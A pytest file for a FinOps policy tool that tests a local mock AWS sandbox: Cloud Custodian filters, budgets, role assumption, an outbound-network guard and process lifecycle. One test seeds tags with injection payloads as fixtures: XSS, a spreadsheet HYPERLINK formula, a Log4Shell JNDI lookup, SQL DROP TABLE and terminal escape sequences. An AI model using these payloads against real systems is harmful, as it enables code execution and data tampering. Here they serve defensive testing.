"""The sandbox: its estate as AWS's API and Cloud Custodian see it, its process, and the guard on what leaves it."""

from __future__ import annotations

import datetime as dt
import errno
import http.server
import importlib.util
import itertools
import json
import os
import signal
import socket
import subprocess
import sys
import textwrap
import threading
import time
from collections import Counter
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest
from botocore.exceptions import ClientError, HTTPClientError

from finops_policy.errors import EvidenceError, SandboxError
from finops_policy.sandbox import process
from finops_policy.sandbox.egress import EgressError, allow_egress, forbid_egress
from finops_policy.sandbox.estate import CALLER_ACCOUNT, EXTERNAL_ID, digest, load_estate
from finops_policy.sandbox.process import Sandbox, sandbox

ROOT = Path(__file__).parents[2]
ROLE = "finops-policy-reader"
PROD, DEV, DATA, LEGACY = "111122223333", "444455556666", "777788889999", "222233334444"
REGIONS = ("us-east-1", "eu-west-1")
GLOBAL_KINDS = ("s3", "account", "budget")
KINDS = (
    "ami", "app-elb", "dynamodb-table", "ebs", "ebs-snapshot", "ec2", "elb", "lambda", "log-group", "nat-gateway",
    "network-addr", "rds", "s3", "account", "budget",
)  # fmt: skip


@pytest.fixture
def aws(sandbox_server: Sandbox, monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """This process's AWS clients, c7n's included, lead to the sandbox."""
    from c7n.utils import reset_session_cache

    environ = dict(os.environ)
    sandbox_server.apply(environ)
    for name in os.environ.keys() - environ.keys():
        monkeypatch.delenv(name)
    for name, value in environ.items():
        monkeypatch.setenv(name, value)
    reset_session_cache()
    yield
    reset_session_cache()


def assumed(account: str, region: str = "us-east-1", external_id: str = EXTERNAL_ID, role: str = ROLE) -> Any:
    """A boto3 session in an account of the estate."""
    import boto3

    answer = boto3.client("sts").assume_role(
        RoleArn=f"arn:aws:iam::{account}:role/{role}", RoleSessionName="test", ExternalId=external_id
    )
    keys = answer["Credentials"]
    return boto3.Session(keys["AccessKeyId"], keys["SecretAccessKey"], keys["SessionToken"], region)


def policy(kind: str, account: str, region: str, filters: list[Any], directory: Path) -> Any:
    from c7n.config import Config
    from c7n.policy import Policy
    from c7n.resources import load_resources

    load_resources([f"aws.{kind}"])
    config = Config.empty(
        region=region,
        regions=[region],
        account_id=account,
        assume_role=f"arn:aws:iam::{account}:role/{ROLE}",
        external_id=EXTERNAL_ID,
        output_dir=str(directory),
        cache="",
    )
    return Policy({"name": "test", "resource": f"aws.{kind}", "filters": filters}, config)


def found(kind: str, account: str, region: str, filters: list[Any], directory: Path) -> list[dict[str, Any]]:
    """What Cloud Custodian finds with these filters."""
    from c7n.utils import reset_session_cache

    reset_session_cache()
    tried = policy(kind, account, region, filters, directory)
    tried.validate()
    resources: list[dict[str, Any]] = tried.resource_manager.resources()
    return resources


def named(resources: list[dict[str, Any]]) -> set[str]:
    keys = ("LoadBalancerName", "DBInstanceIdentifier", "FunctionName", "TableName", "logGroupName", "BudgetName")
    tags = [{tag["Key"]: tag["Value"] for tag in resource.get("Tags", ())} for resource in resources]
    return {
        next((resource[key] for key in keys if key in resource), tag.get("Name", ""))
        for resource, tag in zip(resources, tags, strict=True)
    }


Inventory = dict[tuple[str, str, str], list[tuple[str, str]]]


def inventory(server: Sandbox, directory: Path, *accounts: str) -> Inventory:
    """(account, region, kind) -> (ARN, what no restart of the sandbox changes) of each resource, through c7n."""
    from c7n.utils import reset_session_cache

    listed = {}
    with pytest.MonkeyPatch.context() as patch:
        for name, value in server.environment().items():
            patch.setenv(name, value)
        for account, region in itertools.product(accounts, REGIONS):
            reset_session_cache()
            for kind in KINDS:
                if kind in GLOBAL_KINDS and region != REGIONS[0]:
                    continue
                manager = policy(kind, account, region, [], directory).resource_manager
                resources = manager.resources()
                listed[account, region, kind] = sorted(
                    (arn, facts(resource)) for arn, resource in zip(manager.get_arns(resources), resources, strict=True)
                )
    return listed


def facts(resource: Mapping[str, Any]) -> str:
    keys = (
        "State",
        "Tags",
        "InstanceType",
        "Size",
        "ImageId",
        "AssociationId",
        "PublicIp",
        "CodeSha256",
        "CalculatedSpend",
    )
    return json.dumps({key: resource[key] for key in keys if key in resource}, default=str)


@pytest.fixture(scope="module")
def seen(sandbox_server: Sandbox, tmp_path_factory: pytest.TempPathFactory) -> Inventory:
    return inventory(sandbox_server, tmp_path_factory.mktemp("c7n"), PROD, DEV, DATA)


# --- The estate -----------------------------------------------------------------------------------------------------


def expected_counts() -> Counter[tuple[str, str, str]]:
    counts: Counter[tuple[str, str, str]] = Counter()
    for account in load_estate():
        for region, items in account.regions.items():
            for item in items:
                amazon = item.options.get("owner") == "amazon"
                counts[account.id, REGIONS[0] if item.kind == "s3" else region, item.kind] += not amazon
                counts[account.id, region, "ebs"] += item.kind == "ec2"  # the root volume
                counts[account.id, region, "network-addr"] += item.kind == "nat-gateway"
                counts[account.id, region, "ebs-snapshot"] += item.kind == "ami" and not amazon
        if account.role:
            counts[account.id, REGIONS[0], "account"] = 1
            counts[account.id, REGIONS[0], "budget"] = len(account.budgets)
    return +counts


def test_custodian_finds_the_whole_estate(seen: Inventory) -> None:
    counts = +Counter({place: len(resources) for place, resources in seen.items()})
    assert counts == expected_counts()
    assert sum(counts.values()) >= 150
    assert {kind for _, _, kind in counts} == set(KINDS)


def test_two_sandboxes_are_the_same(seen: Inventory, tmp_path: Path) -> None:
    with sandbox(tmp_path) as second:
        assert second.ephemeral
        again = inventory(second, tmp_path, DEV)
    assert again == {place: resources for place, resources in seen.items() if place[0] == DEV}
    assert not listens(second.url)
    assert not record_of(tmp_path).exists()


def test_ids_depend_on_nothing_but_the_resource(seen: Inventory) -> None:
    """Waivers name ARNs: an edit elsewhere in the estate must not change this one."""
    arns = {arn for arn, facts in seen[DEV, "us-east-1", "ec2"] if "ehr-staging" in facts}
    assert arns == {"arn:aws:ec2:us-east-1:444455556666:instance/i-b6c9ca8c005078eac"}


@pytest.mark.parametrize(
    ("kind", "client", "call", "result", "date"),
    [
        ("ec2", "ec2", "describe_instances", "Reservations[].Instances[]", "LaunchTime"),
        ("attached", "ec2", "describe_instances", "Reservations[].Instances[].BlockDeviceMappings[].Ebs", "AttachTime"),
        ("ebs", "ec2", "describe_volumes", "Volumes", "CreateTime"),
        ("ebs-snapshot", "ec2", "describe_snapshots", "Snapshots", "StartTime"),
        ("nat-gateway", "ec2", "describe_nat_gateways", "NatGateways", "CreateTime"),
        ("app-elb", "elbv2", "describe_load_balancers", "LoadBalancers", "CreatedTime"),
        ("elb", "elb", "describe_load_balancers", "LoadBalancerDescriptions", "CreatedTime"),
        ("rds", "rds", "describe_db_instances", "DBInstances", "InstanceCreateTime"),
        ("s3", "s3", "list_buckets", "Buckets", "CreationDate"),
        ("lambda", "lambda", "list_functions", "Functions", "LastModified"),
        ("log-group", "logs", "describe_log_groups", "logGroups", "creationTime"),
    ],
)
def test_creation_dates_are_in_the_past(kind: str, client: str, call: str, result: str, date: str, aws: None) -> None:
    import jmespath  # type: ignore[import-untyped]

    answer = getattr(assumed(DATA).client(client), call)()
    now = dt.datetime.now(dt.UTC)
    ages = sorted(round((now - _moment(one[date])) / dt.timedelta(days=1)) for one in jmespath.search(result, answer))
    (account,) = (account for account in load_estate() if account.id == DATA)
    items = [
        item for region, items in account.regions.items() if region == REGIONS[0] or kind == "s3" for item in items
    ]
    kinds = {"ebs": ("ebs", "ec2"), "attached": ("ebs", "ec2"), "ebs-snapshot": ("ebs-snapshot", "ami")}.get(
        kind, (kind,)
    )
    assert ages == sorted(
        item.age
        for item in items
        if item.kind in kinds
        and item.options.get("owner") != "amazon"
        and (kind != "attached" or item.kind == "ec2" or "host" in item.options)
    )


def _moment(value: Any) -> dt.datetime:
    if isinstance(value, int):
        return dt.datetime.fromtimestamp(value / 1000, dt.UTC)
    return value if isinstance(value, dt.datetime) else dt.datetime.fromisoformat(value)


def test_images_and_tables_are_old(aws: None) -> None:
    session = assumed(DATA)
    images = {image["Name"]: image for image in session.client("ec2").describe_images(Owners=["self"])["Images"]}
    assert images.keys() == {"spark-node-v8", "spark-node-v2"}
    assert (dt.datetime.now(dt.UTC) - _moment(images["spark-node-v2"]["CreationDate"])).days == 930
    table = session.client("dynamodb").describe_table(TableName="survey-2020-answers")["Table"]
    assert (dt.datetime.now(dt.UTC) - table["CreationDateTime"]).days == 1600
    assert "GlobalSecondaryIndexes" not in table


def test_hostile_values_arrive_unharmed(aws: None) -> None:
    session = assumed(DEV)
    ec2 = session.client("ec2")
    tags = {tag["Value"] for tag in ec2.describe_tags()["Tags"]}
    assert {
        "<script>alert(1)</script>",
        '=HYPERLINK("http://evil","x")',
        "{{7*7}}",
        "${jndi:ldap://evil/x}",
        "'; DROP TABLE findings; --",
        "\u202eevil\u202c",
        "🏥👩🏽‍⚕️💸 Köln 東京",
    } <= tags
    assert max(map(len, tags)) == 250
    function = session.client("lambda").get_function(FunctionName="hostile-ansi")
    assert function["Configuration"]["Description"] == "\x1b[31mALERT\x1b[0m\x07"
    assert function["Tags"]["Owner"] == "\x1b]0;owned\x07\x1b[2J"


# --- What policies read ---------------------------------------------------------------------------------------------

IDLE_CPU = {
    "type": "metrics", "name": "CPUUtilization", "statistics": "Maximum", "days": 14, "period": 3600, "value": 5,
    "op": "less-than",
}  # fmt: skip


def _metric(name: str, statistics: str = "Sum", **more: Any) -> dict[str, Any]:
    return {
        "type": "metrics",
        "name": name,
        "statistics": statistics,
        "days": 14,
        "value": 1,
        "op": "less-than",
        **more,
    }


FREE_STORAGE = {
    **_metric("FreeStorageSpace", "Minimum", op="gt", value=70),
    "percent-attr": "AllocatedStorage",
    "attr-multiplier": 2**30,
}


@pytest.mark.parametrize(
    ("kind", "filters", "names"),
    [
        ("ec2", [{"State.Name": "running"}, IDLE_CPU], {"billing-legacy-app", "fax-gateway"}),
        (
            "ec2",
            [{"State.Name": "stopped"}, {"type": "state-age", "days": 30}],
            {"ehr-migration-2023", "cardiology-trial"},
        ),
        ("nat-gateway", [_metric("BytesOutToDestination")], {"nat-old-dmz"}),
        ("app-elb", [_metric("RequestCount")], {"billing-legacy"}),
        ("elb", [_metric("RequestCount")], {"billing-classic"}),
        ("rds", [_metric("DatabaseConnections", "Maximum")], {"billing-archive"}),
        (
            "rds",
            [FREE_STORAGE],
            {"pacs-index", "billing-oracle", "billing-archive"},
        ),
        ("lambda", [_metric("Invocations")], {"covid-dashboard-feed"}),
        ("dynamodb-table", [_metric("ConsumedReadCapacityUnits")], {"covid-appointments"}),
        (
            "ami",
            [{"type": "image-age", "days": 365}, {"type": "unused", "value": True}],
            {"ehr-golden-v31", "billing-golden-v3"},
        ),
        ("network-addr", [{"AssociationId": "absent"}], {"old-vpn-endpoint", "cardiology-trial"}),
        (
            "log-group",
            [{"retentionInDays": "absent"}],
            {"/pacs/ingest", "/billing/batch", "/aws/lambda/legacy-hl7-shim"},
        ),
    ],
)  # fmt: skip
def test_custodian_filters_find_what_the_estate_hides(
    kind: str, filters: list[Any], names: set[str], aws: None, tmp_path: Path
) -> None:
    assert named(found(kind, PROD, "us-east-1", filters, tmp_path)) == names


@pytest.mark.parametrize(
    ("kind", "metric", "silent"),
    [
        ("ec2", _metric("CPUUtilization", "Maximum", value=101), {"transcription-worker"}),
        ("nat-gateway", _metric("BytesOutToDestination", value=1e15), {"nat-new-subnet"}),
        ("app-elb", _metric("RequestCount", value=1e15), {"telehealth-pilot"}),
        ("elb", _metric("RequestCount", value=1e15), {"fax-classic"}),
        ("rds", _metric("DatabaseConnections", value=1e15), {"lab-results-new"}),
        ("lambda", _metric("Invocations", value=1e15), {"legacy-hl7-shim"}),
        ("dynamodb-table", _metric("ConsumedWriteCapacityUnits", value=1e15), {"pacs-worklist"}),
    ],
)
def test_something_of_each_kind_has_no_datapoints(
    kind: str, metric: dict[str, Any], silent: set[str], aws: None, tmp_path: Path
) -> None:
    scope: list[Any] = [{"State.Name": "running"}] if kind == "ec2" else []
    everything = named(found(kind, PROD, "us-east-1", scope, tmp_path))
    assert everything - named(found(kind, PROD, "us-east-1", [*scope, metric], tmp_path)) == silent


def test_datapoints_are_hourly_and_the_same_in_every_sandbox(aws: None) -> None:
    now = dt.datetime.now(dt.UTC)
    points = (
        assumed(PROD)
        .client("cloudwatch")
        .get_metric_statistics(
            Namespace="AWS/RDS",
            MetricName="DatabaseConnections",
            Dimensions=[{"Name": "DBInstanceIdentifier", "Value": "ehr-primary"}],
            StartTime=now - dt.timedelta(days=14),
            EndTime=now,
            Period=3600,
            Statistics=["Maximum"],
        )["Datapoints"]
    )
    values = [point["Maximum"] for point in sorted(points, key=lambda point: point["Timestamp"])]
    assert len(values) == 14 * 24
    assert 60 <= min(values) < max(values) <= 480
    assert values[-1] == 431.12


def test_an_instance_stopped_without_a_date(aws: None, tmp_path: Path) -> None:
    stopped = found("ec2", PROD, "us-east-1", [{"State.Name": "stopped"}], tmp_path)
    reasons = {named([one]).pop(): one["StateTransitionReason"] for one in stopped}
    assert reasons["radiology-import"] == ""
    assert reasons["ehr-migration-2023"].startswith("User initiated (20")


def test_budgets(aws: None, tmp_path: Path) -> None:
    assert found("account", DATA, "us-east-1", [{"type": "missing", "policy": {"resource": "aws.budget"}}], tmp_path)
    assert not found("account", DEV, "us-east-1", [{"type": "missing", "policy": {"resource": "aws.budget"}}], tmp_path)
    budgets = {
        one["BudgetName"]: one for account in (PROD, DEV) for one in found("budget", account, "us-east-1", [], tmp_path)
    }
    kinds = {
        name: sorted(one["NotificationType"] for one in budget["Notifications"]) for name, budget in budgets.items()
    }
    assert kinds["acme-prod-monthly"] == ["ACTUAL", "FORECASTED"]
    assert kinds["acme-dev-monthly"] == []
    assert kinds["acme-dev-ci"] == ["ACTUAL"]
    spend = {
        name: {key: float(amount["Amount"]) for key, amount in one["CalculatedSpend"].items()}
        for name, one in budgets.items()
    }
    assert spend["acme-prod-imaging"] == {"ActualSpend": 7342.18, "ForecastedSpend": 9810.55}
    assert spend["acme-dev-sandbox"] == {"ActualSpend": 120.50}
    assert spend["acme-dev-training"] == {}


# --- Who may enter --------------------------------------------------------------------------------------------------


def test_caller_and_assumed_identity(aws: None) -> None:
    import boto3

    caller = boto3.client("sts").get_caller_identity()
    assert (caller["Account"], caller["Arn"]) == (CALLER_ACCOUNT, f"arn:aws:iam::{CALLER_ACCOUNT}:user/finops-runner")
    for account in (PROD, DEV, DATA):
        identity = assumed(account).client("sts").get_caller_identity()
        assert identity["Account"] == account
        assert identity["Arn"] == f"arn:aws:sts::{account}:assumed-role/{ROLE}/test"


@pytest.mark.parametrize(
    ("account", "changes"),
    [
        (LEGACY, {}),
        (PROD, {"external_id": "acme-0000"}),
        (PROD, {"role": "administrator"}),
        (PROD, {"role": "lambda-execution"}),
        ("123412341234", {}),
    ],
)
def test_denied(account: str, changes: dict[str, str], aws: None) -> None:
    with pytest.raises(ClientError) as raised:
        assumed(account, **changes)
    assert raised.value.response["ResponseMetadata"]["HTTPStatusCode"] == 403
    assert raised.value.response["Error"]["Code"] == "AccessDenied"
    assert raised.value.response["Error"]["Message"] == (
        f"User: arn:aws:iam::{CALLER_ACCOUNT}:user/finops-runner is not authorized to perform: sts:AssumeRole on "
        f"resource: arn:aws:iam::{account}:role/{changes.get('role', ROLE)}"
    )


def test_accounts_do_not_see_each_other(aws: None) -> None:
    names = {
        account: {one["FunctionName"] for one in assumed(account).client("lambda").list_functions()["Functions"]}
        for account in (PROD, DEV, DATA)
    }
    assert all(names.values())
    assert not names[PROD] & names[DEV] | names[DEV] & names[DATA] | names[DATA] & names[PROD]


def test_environment_leaves_nothing_of_the_users_own(sandbox_server: Sandbox) -> None:
    environ = {
        "AWS_PROFILE": "prod",
        "AWS_SESSION_TOKEN": "real",
        "AWS_ENDPOINT_URL_S3": "https://s3.example.com",
        "AWS_WEB_IDENTITY_TOKEN_FILE": "/token",
        "https_proxy": "http://127.0.0.1:3128",
        "ALL_PROXY": "socks5://proxy",
        "PATH": "/bin",
    }
    sandbox_server.apply(environ)
    assert environ == {"PATH": "/bin", **sandbox_server.environment()}


# --- Nothing leaves -------------------------------------------------------------------------------------------------


def test_custodians_sqs_client_is_stopped(aws: None, tmp_path: Path) -> None:
    with pytest.raises((EgressError, HTTPClientError), match=r"refused to contact .*sqs"):
        found("sqs", PROD, "us-east-1", [], tmp_path)


def test_s3control_is_stopped(aws: None) -> None:
    with pytest.raises((EgressError, HTTPClientError), match=f"refused to contact {PROD}\\."):
        assumed(PROD).client("s3control").get_public_access_block(AccountId=PROD)


def _socket(family: int = socket.AF_INET, kind: int = socket.SOCK_STREAM) -> socket.socket:
    return socket.socket(family, kind)


@pytest.mark.parametrize(
    "host", ["example.com", "192.0.2.1", "2001:db8::1", "127.0.0.1.example.com", "::ffff:192.0.2.1"]
)
def test_lookups_of_other_hosts_are_refused(host: str) -> None:
    for look_up in (socket.gethostbyname, socket.gethostbyaddr, lambda host: socket.getaddrinfo(host, 443)):
        with pytest.raises(EgressError) as raised:
            look_up(host)
        assert raised.value.host == host
        assert host in raised.value.message
        assert raised.value.hint


def test_connections_and_datagrams_to_other_hosts_are_refused() -> None:
    with _socket() as stream, _socket(socket.AF_INET6) as stream6, _socket(kind=socket.SOCK_DGRAM) as datagram:
        for act in (
            lambda: stream.connect(("192.0.2.1", 443)),
            lambda: stream.connect_ex(("192.0.2.1", 443)),
            lambda: stream6.connect(("2001:db8::1", 443)),
            lambda: datagram.connect(("192.0.2.1", 53)),
            lambda: datagram.sendto(b"x", ("192.0.2.1", 53)),
            lambda: datagram.sendmsg([b"x"], [], 0, ("192.0.2.1", 53)),
        ):
            with pytest.raises(EgressError, match=r"192\.0\.2\.1|2001:db8::1"):
                act()


def test_each_host_is_logged_once(caplog: pytest.LogCaptureFixture) -> None:
    for _ in range(3):
        with pytest.raises(EgressError):
            socket.getaddrinfo("logged-once.example.com", 443)
    assert [record.levelname for record in caplog.records if "logged-once" in record.message] == ["CRITICAL"]


def test_loopback_and_local_sockets_stay_open(sandbox_server: Sandbox, tmp_path: Path) -> None:
    forbid_egress()  # a second time, which changes nothing
    for host in ("localhost", "127.0.0.1", "127.9.9.9", "::1", "::ffff:127.0.0.1", None, b"localhost"):
        assert socket.getaddrinfo(host, 80)
    with _socket(socket.AF_UNIX) as server, _socket(socket.AF_UNIX) as client:
        server.bind(str(tmp_path / "s"))
        server.listen()
        client.connect(str(tmp_path / "s"))
    with _socket(kind=socket.SOCK_DGRAM) as one, _socket(kind=socket.SOCK_DGRAM) as other:
        one.bind(("127.0.0.1", 0))
        other.connect(one.getsockname())
        other.sendmsg([b"x"])
        assert one.recv(1) == b"x"


def test_tests_may_lift_the_guard() -> None:
    with allow_egress():
        assert socket.getaddrinfo("192.0.2.1", 80)  # a number: nothing is asked of anybody
    with pytest.raises(EgressError):
        socket.getaddrinfo("192.0.2.1", 80)


# --- The process ----------------------------------------------------------------------------------------------------


def record_of(workspace: Path) -> Path:
    return workspace / ".finops-policy" / "sandbox.json"


def listens(url: str) -> bool:
    with _socket() as probe:
        return probe.connect_ex(("127.0.0.1", int(url.rpartition(":")[2]))) == 0


def wait_until_silent(url: str) -> None:
    deadline = time.monotonic() + 20
    while listens(url):
        assert time.monotonic() < deadline, f"{url} still answers"


def test_start_status_stop(tmp_path: Path) -> None:
    record_of(tmp_path).parent.mkdir()
    record_of(tmp_path).write_text('{"url": "http://127.0.0.1:1", "pid": 4000000}')  # a stale record is replaced
    assert process.status(tmp_path) is None
    started = process.start(tmp_path)
    try:
        assert process.start(tmp_path) == started == process.status(tmp_path)
        assert not started.ephemeral
        with sandbox(tmp_path) as used:
            assert used == started
        assert listens(started.url)
        record = json.loads(record_of(tmp_path).read_bytes())
        assert {"url", "pid", "seeded_at", "estate", "version"} == record.keys()
        assert record["estate"] == digest()

        record_of(tmp_path).write_text(json.dumps(record | {"estate": "another"}))
        with pytest.raises(SandboxError, match="another version") as raised, sandbox(tmp_path):
            pass
        assert "sandbox stop" in raised.value.hint
    finally:
        assert process.stop(tmp_path)
    assert not listens(started.url)
    assert not record_of(tmp_path).exists()
    assert not process.stop(tmp_path)


class _Stranger(http.server.BaseHTTPRequestHandler):
    """Another program that has the port by now."""

    answers = (b"hello", b"[]", b'{"pid": 1}')
    turn = 0

    def do_GET(self) -> None:
        body = self.answers[_Stranger.turn % len(self.answers)]
        _Stranger.turn += 1
        self.send_response(200)
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002
        pass


def test_another_program_on_the_port_is_not_ours(tmp_path: Path) -> None:
    record_of(tmp_path).parent.mkdir()
    with http.server.HTTPServer(("127.0.0.1", 0), _Stranger) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        stranger = {"url": f"http://127.0.0.1:{server.server_port}", "pid": os.getpid()}
        for _ in _Stranger.answers:
            record_of(tmp_path).write_text(json.dumps(stranger))
            assert process.status(tmp_path) is None
        assert not process.stop(tmp_path)
        server.shutdown()
    assert not record_of(tmp_path).exists()


@pytest.mark.parametrize(
    "record",
    [
        b"",
        b"{",
        b"[1]",
        b"\xff",
        b"{}",
        b'{"url": 3, "pid": 4}',
        b'{"url": "http://127.0.0.1:1", "pid": 4000000}',
        b'{"url": "http://127.0.0.1", "pid": 1}',
        b'{"url": "http://127.0.0.1:99999999", "pid": 1}',
        b'{"url": "http://evil.example.com:80", "pid": 1}',
    ],
)
def test_a_false_record_is_no_sandbox(record: bytes, tmp_path: Path) -> None:
    record_of(tmp_path).parent.mkdir()
    record_of(tmp_path).write_bytes(record)
    assert process.status(tmp_path) is None
    assert not process.stop(tmp_path)


def test_a_workspace_that_is_not_there(tmp_path: Path) -> None:
    with pytest.raises(EvidenceError, match="absent"):
        process.start(tmp_path / "absent")


def test_a_lock_that_cannot_be_written(tmp_path: Path) -> None:
    (tmp_path / ".finops-policy" / "sandbox.lock").mkdir(parents=True)
    with pytest.raises(EvidenceError, match=os.strerror(errno.EISDIR)):
        process.start(tmp_path)


def test_without_the_extra(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(importlib.util, "find_spec", lambda name: None)
    with pytest.raises(SandboxError, match="moto") as raised, sandbox(tmp_path):
        pass
    assert "pip install 'finops-policy[sandbox]'" in raised.value.hint


def test_a_server_that_cannot_start(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "moto.py").write_text("raise ImportError('moto is broken today')")
    environment = process._server_environment()
    environment["PYTHONPATH"] = os.pathsep.join([str(tmp_path), environment["PYTHONPATH"]])
    monkeypatch.setattr(process, "_server_environment", lambda: environment)
    with pytest.raises(SandboxError, match="moto is broken today"), sandbox(tmp_path):
        pass


def test_a_server_that_takes_too_long(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    launched: list[subprocess.Popen[bytes]] = []

    class Recorded(subprocess.Popen[bytes]):
        def __init__(self, *args: Any, **options: Any) -> None:
            super().__init__(*args, **options)
            launched.append(self)

    monkeypatch.setattr(subprocess, "Popen", Recorded)
    monkeypatch.setattr(process, "START_SECONDS", 0.0)
    with pytest.raises(SandboxError, match="not ready after 0 s"), sandbox(tmp_path):
        pass
    assert launched[0].returncode == -signal.SIGTERM


@pytest.mark.parametrize("how", [signal.SIGKILL, signal.SIGINT])
def test_no_orphan_is_left(how: signal.Signals, tmp_path: Path) -> None:
    """Ctrl-C goes to all processes of a terminal, but the server must serve until the command has cleaned up.

    A forked worker that outlives the command is there too: it must not keep the server alive.
    """
    script = """
        import os, sys, time
        from pathlib import Path
        from finops_policy.sandbox.process import sandbox
        from urllib.request import urlopen

        with sandbox(Path(sys.argv[1])) as running:
            if os.fork() == 0:
                os.setsid()
                os.close(1)
                sys.stdin.read()
                os._exit(0)
            try:
                print(running.url, flush=True)
                while True:
                    time.sleep(60)
            except KeyboardInterrupt:
                print(urlopen(running.url + "/finops-policy/sandbox").status, flush=True)
    """
    command = subprocess.Popen(
        [sys.executable, "-c", textwrap.dedent(script), str(tmp_path)],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        env={**os.environ, "PYTHONPATH": str(ROOT), "TMPDIR": str(tmp_path), "no_proxy": "*"},
        text=True,
        start_new_session=True,
    )
    with command:
        assert command.stdout is not None
        url = command.stdout.readline().strip()
        assert listens(url)
        os.killpg(command.pid, how)
        if how == signal.SIGINT:
            assert command.stdout.readline().strip() == "200"
        command.wait(20)
        wait_until_silent(url)
    if how == signal.SIGINT:
        assert not list(tmp_path.iterdir())
